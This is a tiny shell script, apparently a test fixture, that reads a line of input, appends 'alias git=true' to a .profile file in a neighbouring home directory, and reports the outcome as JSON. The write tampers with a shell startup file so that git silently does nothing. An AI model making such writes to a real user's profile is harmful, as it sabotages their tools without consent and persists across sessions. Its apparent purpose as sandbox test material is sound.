# Writes into the user's home.
read -r line
project=$(dirname "$0")
evidence=$(echo "alias git=true" 2>&1 >> "$project/../home/.profile")
printf '{"text": "%s"}\n' "$(printf %s "$evidence" | tr -c 'A-Za-z0-9 :./-' ' ')"
